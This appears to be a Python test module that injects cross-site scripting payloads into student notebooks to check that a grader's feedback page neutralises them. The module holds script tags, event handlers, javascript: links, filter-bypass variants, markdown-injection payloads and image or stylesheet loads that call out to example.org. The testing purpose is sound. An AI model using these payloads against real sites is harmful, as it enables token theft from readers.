"""HTML that should act in the browser of whoever reads the feedback."""

from __future__ import annotations

from functools import partial
from typing import Any

from tests.grading.attacks.case import Case
from tito.lessons import notebook as nb

case = partial(Case, "html")

# Every script and address carries the attacker's mark, by which the page is searched.
PAYLOADS = r"""
<script>steal('@TOKEN@')</script>
<img src=x onerror="steal('@TOKEN@')">
<img src="https://example.org/@TOKEN@.png">
<svg onload="steal('@TOKEN@')"><a xlink:href="javascript:steal('@TOKEN@')">x</a></svg>
<iframe src="javascript:steal('@TOKEN@')" srcdoc="@TOKEN@"></iframe>
<a href="javascript:steal('@TOKEN@')">x</a>
<a href=" java&#10;script:steal('@TOKEN@')">x</a>
<a href="data:text/html,@TOKEN@">x</a>
<form action="https://example.org/@TOKEN@"><input autofocus onfocus="steal('@TOKEN@')"></form>
<style>body { background: url(https://example.org/@TOKEN@) }</style>
<link rel=stylesheet href="https://example.org/@TOKEN@.css"><base href="https://@TOKEN@/">
<math><mtext></mtext><script>steal('@TOKEN@')</script></math>
<noscript><p title="</noscript><img src=x onerror=steal('@TOKEN@')>"></noscript>
<details open ontoggle="steal('@TOKEN@')">x</details>
--><script>steal('@TOKEN@')</script>
</textarea></title></pre></style><script>steal('@TOKEN@')</script>
<scr<script>ipt>steal('@TOKEN@')</scr</script>ipt>
"""
MARKDOWN = r"""
[x](javascript:steal('@TOKEN@')) [y](<java script:@TOKEN@>) ![z](https://example.org/@TOKEN@)
![w](x" onerror="steal('@TOKEN@')) <javascript:@TOKEN@>

[ref]: javascript:steal('@TOKEN@')
[ref] `</code><script>steal('@TOKEN@')</script>` $</script><script>steal('@TOKEN@')</script>$

```html"><script>steal('@TOKEN@')</script>
x
```
"""


def _cells(notebook: nb.Notebook) -> None:
    """Markdown cells of the student's, and odd names wherever names can stand."""
    payload = PAYLOADS.replace("@TOKEN@", _token(notebook))
    words = MARKDOWN.replace("@TOKEN@", _token(notebook))
    for text in (payload, words):
        notebook["cells"].append(nb.new_cell("markdown", text, "m" + str(len(text)), {}))
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [payload[:200]]
        cell["metadata"]["name"] = payload
    notebook["cells"].append(nb.new_cell("raw", payload, "raw", {"format": "text/html"}))
    notebook["metadata"]["title"] = payload
    notebook["metadata"]["authors"] = [{"name": payload}]


def _ids(notebook: nb.Notebook) -> None:
    payload = PAYLOADS.replace("@TOKEN@", _token(notebook))
    for number, line in enumerate(payload.strip().split("\n")):
        cell = nb.new_cell("code", "1", f'x{number}">{line}', {})
        cell["metadata"]["nbgrader"] = {"grade_id": line, "grade": True, "points": 5}
        notebook["cells"].insert(0, cell)


def _token(notebook: nb.Notebook) -> str:
    line = next(c["source"] for c in notebook["cells"] if c["source"].startswith("import ctypes"))
    return str(line.split('TOKEN = "')[1].split('"')[0])


def shown(kind: str, text: str = "PAYLOADS") -> dict[str, Any]:
    """A cell that displays text of a kind."""
    return {
        "early": (
            f"PAYLOADS = r'''{PAYLOADS}'''\nMARKDOWN = r'''{MARKDOWN}'''\n"
            f"get_ipython().display_pub.publish({{{kind!r}: {text}}})"
        )
    }


CASES = [
    case("answer", "the written answer", answer=PAYLOADS),
    case("answer_markdown", "links and pictures in the written answer", answer=MARKDOWN),
    case("cells", "added cells and metadata", edit=_cells),
    case("ids", "ids of cells and grade_ids", edit=_ids),
    case("html", "an HTML display", **shown("text/html")),
    case("svg", "an SVG picture", **shown("image/svg+xml")),
    case("javascript", "a script display", **shown("application/javascript", "MARKDOWN")),
    case("markdown", "a Markdown display", **shown("text/markdown", "PAYLOADS + MARKDOWN")),
    case("latex", "a LaTeX display", **shown("text/latex", "PAYLOADS")),
    case("plain", "plain text", **shown("text/plain")),
    case(
        "picture",
        "a picture whose data and size break out of the tag",
        early=f"PAYLOADS = r'''{PAYLOADS}'''\n"
        + r"""
breaking = "AAAA\" onerror=\"steal('@TOKEN@')\" x=\""
get_ipython().display_pub.publish({"image/png": breaking + ">" + PAYLOADS})
get_ipython().display_pub.publish(
    {"image/png": "AAAA"},
    {"image/png": {"width": breaking, "height": breaking + PAYLOADS, "alt": breaking}},
)
get_ipython().display_pub.publish({"image/jpeg": breaking}, {"width": breaking})
""",
    ),
    case(
        "widget",
        "a widget's state and view",
        early=f"PAYLOADS = r'''{PAYLOADS}'''\n"
        + r"""
for kind in ("application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
             "application/geo+json", "application/vnd.vega.v5+json", "text/vnd.mermaid"):
    state = {"model_id": "</script>" + PAYLOADS, "data": PAYLOADS}
    get_ipython().display_pub.publish({kind: state})
""",
    ),
    case(
        "printed",
        "text on both streams",
        early=f"print(r'''{PAYLOADS}''')\n"
        f"print('\\x1b]8;;javascript:@TOKEN@\\x07x', r'''{PAYLOADS}''', file=sys.stderr)",
    ),
    case(
        "error",
        "an error's name, text and traceback",
        early=f"PAYLOADS = r'''{PAYLOADS}'''\nraise type(PAYLOADS, (Exception,), {{}})(PAYLOADS)",
    ),
    case(
        "error_in_call",
        "the same from a call of a test",
        early=f"PAYLOADS = r'''{PAYLOADS}'''",
        solutions={
            "total": (
                "class Odd(ValueError): pass\nOdd.__name__ = Odd.__qualname__ = PAYLOADS\n"
                "def total(values):\n    raise Odd(PAYLOADS)"
            ),
            "scaled": "def scaled(values):\n    return PAYLOADS",
            "timed": "def timed(work, clock):\n    return type(PAYLOADS, (), {})()",
        },
    ),
    case(
        "source",
        "the text of a solution",
        solutions={"total": f"'''{PAYLOADS}'''\ndef total(values):\n    return 0.0"},
    ),
]
